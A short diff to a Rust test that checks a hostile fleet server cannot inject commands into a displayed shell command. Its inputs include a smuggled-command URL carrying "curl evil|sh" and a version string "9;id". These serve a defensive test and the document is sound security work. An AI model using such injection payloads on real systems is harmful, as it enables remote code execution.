@@ -146,7 +146,7 @@ fn a_hostile_server_gets_nothing_into_the_shell() {
     tab.press("E");
     let id = asked(&mut tab);
     let evil = "https://x/';curl evil|sh;'";
-    let host = FleetServerHost { id: "h".into(), urls: vec![evil.into()], is_default: true, proxy: None };
+    let host = FleetServerHost { id: "h".into(), urls: vec![evil.into()], is_default: true, proxy: Ok(None) };
     tab.done(id, Outcome::Facts(Box::new(Facts { hosts: Ok(vec![host]), version: Ok(Some("9;id".into())) })));
     assert!(shown(&tab).contains("--url=FLEET_SERVER_HOST"), "{}", shown(&tab));
     assert!(!shown(&tab).contains("evil") && !shown(&tab).contains(";id"));
